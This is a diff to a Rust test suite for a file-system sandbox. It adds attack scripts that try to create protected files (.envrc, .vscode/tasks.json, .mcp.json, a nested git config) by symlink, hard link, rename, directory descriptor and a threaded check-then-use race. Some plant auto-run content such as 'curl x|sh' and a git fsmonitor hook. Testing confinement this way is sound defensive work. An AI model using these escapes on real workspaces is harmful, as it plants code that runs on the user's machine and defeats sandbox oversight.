@@ -250,6 +250,51 @@ const ATTACKS: &[Attack] = &[
         control: true,
     },
     Attack {
+        name: "create an editor's settings directory that was not there",
+        script: "mkdir -p .vscode && echo '{\"tasks\":[]}' > .vscode/tasks.json && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "create a startup file that was not there (.envrc)",
+        script: "echo 'curl x|sh' > .envrc && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "create a nested repository's configuration",
+        script: "mkdir -p sub/.git && echo '[core] fsmonitor=id' > sub/.git/config && echo ESCAPED; rm -rf sub",
+        control: true,
+    },
+    Attack {
+        name: "rename a prepared directory onto a protected name that was not there",
+        script: "mkdir -p prep && echo '{}' > prep/tasks.json && mv prep .vscode && [ -e .vscode/tasks.json ] && echo ESCAPED; rm -rf prep",
+        control: true,
+    },
+    Attack {
+        name: "symlink a protected name that was not there to a writable directory",
+        script: "mkdir -p prep && echo '{}' > prep/tasks.json && ln -s prep .vscode && [ -e .vscode/tasks.json ] && echo ESCAPED; rm -rf prep",
+        control: true,
+    },
+    Attack {
+        name: "hard-link a workspace file to a protected name that was not there",
+        script: "echo 'curl x|sh' > prep && ln prep .envrc && echo ESCAPED; rm -f prep",
+        control: true,
+    },
+    Attack {
+        name: "a dangling symlink whose target is a protected name, written through",
+        script: "ln -s .mcp.json innocent && echo '{}' > innocent && [ -e .mcp.json ] && echo ESCAPED; rm -f innocent",
+        control: true,
+    },
+    Attack {
+        name: "create a protected name through a directory descriptor and a symlinked parent",
+        script: "ln -s . here && python3 -c \"import os; d = os.open('here', os.O_RDONLY); os.close(os.open('.mcp.json', os.O_CREAT | os.O_WRONLY, dir_fd=d))\" && [ -e .mcp.json ] && echo ESCAPED; rm -f here",
+        control: true,
+    },
+    Attack {
+        name: "rewrite the path between the check and the call (another thread)",
+        script: RACE,
+        control: true,
+    },
+    Attack {
         name: "hard-link a protected file and write the link",
         script: "ln .git/config hl && echo x >> hl && echo ESCAPED",
         control: true,
@@ -335,6 +380,32 @@ const ATTACKS: &[Attack] = &[
         control: true,
     },
 ];
+
+/// One thread calls `open(buf, O_CREAT)` in a loop while another flips
+/// `buf` between a harmless name and `.envrc`: a check that let the kernel
+/// read the path again after it would sooner or later create `.envrc`.
+const RACE: &str = r#"python3 - <<'EOF'
+import ctypes, os, threading
+libc = ctypes.CDLL(None, use_errno=True)
+buf = ctypes.create_string_buffer(b"harmless", 16)
+stop = False
+def flip():
+    while not stop:
+        ctypes.memmove(buf, b".envrc\0\0\0", 9)
+        ctypes.memmove(buf, b"harmless\0", 9)
+t = threading.Thread(target=flip)
+t.start()
+for _ in range(3000):
+    fd = libc.open(buf, os.O_CREAT | os.O_WRONLY, 0o644)
+    if fd >= 0:
+        os.close(fd)
+    if os.path.exists(".envrc"):
+        print("ESCAPED")
+        break
+stop = True
+t.join()
+os.unlink("harmless")
+EOF"#;
 
 #[test]
 fn attacks_fail_confined_and_work_unconfined() {
@@ -473,6 +544,50 @@ fn the_workspace_and_a_private_temporary_directory_are_writable() {
         let tmpdir = lines.get(3).expect("TMPDIR printed");
         assert!(tmpdir.contains("portcullis-run-"), "{tmpdir}");
         assert!(!Path::new(tmpdir).exists(), "{tmpdir} was left behind");
+    }
+}
+
+#[test]
+fn new_names_in_the_workspace_behave_as_unconfined() {
+    // Every kind of new name a program makes, with its modes and errors:
+    // the same output confined (where each is performed by the supervisor
+    // of new names) as unconfined.
+    let script = r#"set -u
+umask 027; echo a > f1; stat -c '%a %s' f1
+umask 022; mkdir -p d1/d2; stat -c '%a' d1 d1/d2
+echo b >> f1; cat f1
+mkfifo p1; stat -c '%F' p1
+ln -s f1 s1; readlink s1; echo c > s1; cat f1
+ln f1 h1; stat -c '%h' f1
+mv h1 d1/moved; ls d1
+cp -r d1 d3; ls d3
+set -o noclobber; (echo x > f1) 2>/dev/null || echo noclobber-refused; set +o noclobber
+mkdir d1 2>/dev/null || echo mkdir-exists
+ln -s nowhere dangling; echo made > dangling; cat nowhere
+python3 -c "import os; os.open('f1', os.O_CREAT | os.O_EXCL | os.O_WRONLY)" 2>&1 | grep -o FileExistsError
+python3 -c "import os; os.open('s1', os.O_CREAT | os.O_WRONLY | os.O_NOFOLLOW)" 2>&1 | grep -o 'Too many levels'
+python3 -c "import os; os.mkdir('d1/')" 2>&1 | grep -o FileExistsError
+python3 -c "import os; d = os.open('d1', os.O_RDONLY); os.close(os.open('viafd', os.O_CREAT | os.O_WRONLY, dir_fd=d)); print(os.path.exists('d1/viafd'))"
+python3 -c "import os; fd = os.open('f1', os.O_CREAT | os.O_RDONLY | os.O_CLOEXEC); import fcntl; print(bool(fcntl.fcntl(fd, fcntl.F_GETFD) & fcntl.FD_CLOEXEC))"
+w="${TMPDIR:-/tmp}/pc-git-$$" && mkdir "$w" && cd "$w" && git init -q && echo x > x && git add x && git -c user.email=a@b -c user.name=n commit -qm m && git log --format=%s
+"#;
+    for user in users() {
+        let confined = World::new(user);
+        let out_c = confined.bash(script, true, &[], &[]);
+        let plain = World::new(user);
+        let out_p = plain.bash(script, false, &[], &[]);
+        assert_eq!(
+            String::from_utf8_lossy(&out_c.stdout),
+            String::from_utf8_lossy(&out_p.stdout),
+            "as {user:?}: confined\n{}\nunconfined\n{}",
+            text(&out_c),
+            text(&out_p)
+        );
+        assert!(
+            String::from_utf8_lossy(&out_p.stdout).contains("noclobber-refused"),
+            "{}",
+            text(&out_p)
+        );
     }
 }
 
